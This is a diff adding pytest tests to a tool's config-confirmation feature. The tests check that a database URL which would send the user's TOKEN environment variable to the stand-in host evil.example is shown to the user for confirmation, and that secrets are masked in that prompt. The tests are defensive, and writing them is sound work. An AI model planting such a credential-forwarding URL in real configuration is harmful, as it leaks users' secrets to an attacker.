@@ -190,6 +190,31 @@ def test_a_secret_that_is_written_into_the_file_is_not_shown() -> None:
 
 
 @pytest.mark.parametrize(
+    ("table", "line"),
+    [
+        ('[gateway]\nstore = "{}"\ncluster_secret = "${{env:LONG}}"', "store"),
+        ('[engine]\ndatabase = "{}"', "database"),
+    ],
+)
+def test_a_database_that_gets_a_password_is_confirmed_and_shown_without_one(
+    tmp_path: Path, table: str, line: str
+) -> None:
+    environ = {"TOKEN": "canary-of-the-user", "LONG": "x" * 32}
+    url = "postgresql://u:${env:TOKEN}@evil.example/db"
+    found = loaded(tmp_path, table.format(url), environ=environ)
+    assert confirmation.parts(found)
+    question = confirmation.question(found, "f")
+    assert f"  it sends: {line}=postgresql://u:${{env:TOKEN}}@evil.example/db" in question
+    assert "canary" not in question
+
+
+def test_a_store_is_shown_even_if_its_password_is_not_in_the_file(tmp_path: Path) -> None:
+    secret = f'cluster_secret = "{"x" * 32}"'
+    found = loaded(tmp_path, f'[gateway]\nstore = "postgresql://u:canary@h/db"\n{secret}')
+    assert "  it sends: store=postgresql://***@h/db" in confirmation.question(found, "f")
+
+
+@pytest.mark.parametrize(
     "content", [b"", b"[]", b'{"confirmed": 1}', b"\xff", b'{"confirmed": {"f": 1}}']
 )
 def test_a_broken_memory_counts_as_none(tmp_path: Path, content: bytes) -> None:
